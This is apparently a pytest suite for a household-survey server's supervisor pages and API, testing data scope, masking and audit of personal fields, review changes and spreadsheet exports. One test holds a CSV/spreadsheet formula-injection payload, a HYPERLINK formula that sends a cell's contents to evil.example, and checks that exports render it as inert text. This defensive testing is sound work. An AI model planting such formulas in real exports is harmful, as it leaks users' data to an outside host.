"""Supervisor pages and API: scope, masking + audit of personal data, review, exports."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
import sqlalchemy as sa

from server.extensions import db
from server.models import AuditEvent, Submission
from tests.support.app import PASSWORD
from tests.support.household_form import household_instance

ID = "11010519491231002X"
PHONE = "13912345678"


@pytest.fixture
def stored(app, form, post):
    """Two submissions from the T01-01 coordinator: one with two persons and a photo."""
    first = household_instance("uuid:r1", persons=2)
    assert post(first, {"door.jpg": b"\xff\xd8photo"}).status_code == 201
    second = household_instance("uuid:r2", head="Wang", location="24.7 102.7 0 30")
    assert post(second).status_code == 201
    return list(db.session.scalars(sa.select(Submission).order_by(Submission.id)))


def _as(client, user):
    client.post("/logout")
    assert client.post("/login", data={"username": user.username,
                                       "password": PASSWORD}).status_code == 302


def _audits(action: str) -> list[AuditEvent]:
    return list(db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == action)))


def test_supervisor_sees_team_unmasked_and_it_is_audited(client, stored, make_user):
    sup = make_user("supervisor", areas=["T01"])
    _as(client, sup)
    page = client.get("/submissions/")
    assert page.status_code == 200 and page.data.count(b"/submissions/") >= 2
    detail = client.get(f"/submissions/{stored[0].id}")
    assert detail.status_code == 200
    assert ID.encode() in detail.data and PHONE.encode() in detail.data
    assert b'<img src="/submissions/' in detail.data and b"24.600000" in detail.data
    (event,) = _audits("submission.view_personal")
    assert event.user_id == sup.id and event.object_id == str(stored[0].id)
    photo = client.get(f"/submissions/{stored[0].id}/attachments/door.jpg")
    assert photo.data == b"\xff\xd8photo"


def test_scope_other_areas_and_other_coordinators(client, stored, make_user):
    _as(client, make_user("supervisor", areas=["T01-02"]))
    assert client.get(f"/submissions/{stored[0].id}").status_code == 404
    assert client.get("/api/v1/submissions").get_json()["total"] == 0
    _as(client, make_user("coordinator", areas=["T01-01"]))
    assert client.get(f"/submissions/{stored[0].id}").status_code == 404


def test_admin_sees_masked_without_personal_audit(client, stored, make_user):
    _as(client, make_user("admin"))
    detail = client.get(f"/api/v1/submissions/{stored[0].id}").get_json()
    assert detail["fields"]["head_phone"] == "139******78"
    assert detail["repeats"]["person"][0]["id_number"].startswith("110*")
    assert detail["fields"]["head"] == "Li"
    assert _audits("submission.view_personal") == []


def test_review_state_change_is_audited(client, stored, make_user):
    _as(client, make_user("supervisor", areas=["T01"]))
    r = client.post(f"/submissions/{stored[0].id}/review",
                    data={"review_state": "has_issues", "reason": "incomplete"})
    assert r.status_code == 302
    r = client.post(f"/api/v1/submissions/{stored[1].id}/review", json={"review_state": "nope"})
    assert r.status_code == 400
    r = client.post(f"/api/v1/submissions/{stored[1].id}/review",
                    json={"review_state": "approved"})
    assert r.get_json()["review_state"] == "approved"
    db.session.expire_all()
    assert [s.review_state for s in db.session.scalars(sa.select(Submission))] == [
        "has_issues", "approved"]
    assert [e.detail["new"] for e in _audits("submission.review")] == ["has_issues", "approved"]
    listed = client.get("/api/v1/submissions?review_state=approved").get_json()
    assert [i["instance_id"] for i in listed["items"]] == ["uuid:r2"]


def test_exports_csv_xlsx_geojson(client, stored, make_user):
    _as(client, make_user("supervisor", areas=["T01"]))
    rows = list(csv.DictReader(io.StringIO(
        client.get("/submissions/export.csv").data.decode("utf-8-sig"))))
    assert [r["instance_id"] for r in rows] == ["uuid:r2", "uuid:r1"]
    assert rows[1]["head_phone"] == PHONE and rows[1]["photo"] == "door.jpg"
    book = openpyxl.load_workbook(io.BytesIO(client.get("/api/v1/submissions/export.xlsx").data))
    assert book.sheetnames == ["submissions", "person"]
    person = list(book["person"].values)
    assert person[0][:2] == ("key", "parent_key")
    assert [r[1] for r in person[1:]] == ["uuid:r2", "uuid:r1", "uuid:r1"]
    assert person[2][0] == "uuid:r1/person[1]" and ID in person[2]
    geo = json.loads(client.get("/submissions/export.geojson?form=hh").data)
    assert [f["geometry"]["coordinates"] for f in geo["features"]] == [[102.7, 24.7],
                                                                      [102.6, 24.6]]
    events = _audits("submissions.export")
    assert [(e.detail["format"], e.detail["count"], e.detail["unmasked"]) for e in events] == [
        ("csv", 2, True), ("xlsx", 2, True), ("geojson", 2, True)]


def test_exports_never_hold_a_formula(client, form, post, make_user):
    """Issue 14, finding 9: an answer typed on a phone stays text in CSV and XLSX."""
    head = '=HYPERLINK("http://evil.example/?"&B2,"Li")'
    xml = household_instance("uuid:f1", head=head.replace("&", "&amp;"))
    assert post(xml).status_code == 201
    _as(client, make_user("supervisor", areas=["T01"]))
    (row,) = csv.DictReader(io.StringIO(
        client.get("/submissions/export.csv").data.decode("utf-8-sig")))
    assert row["head"] == "'" + head
    book = openpyxl.load_workbook(io.BytesIO(client.get("/submissions/export.xlsx").data))
    (cell,) = [c for r in book["submissions"].iter_rows() for c in r if c.value == head]
    assert cell.data_type == "s"


def test_export_masked_for_admin(client, stored, make_user):
    _as(client, make_user("admin"))
    rows = list(csv.DictReader(io.StringIO(
        client.get("/api/v1/submissions/export.csv").data.decode("utf-8-sig"))))
    assert rows[0]["head_phone"] == "139******78"
    assert client.get("/api/v1/submissions/export.pdf").status_code == 404
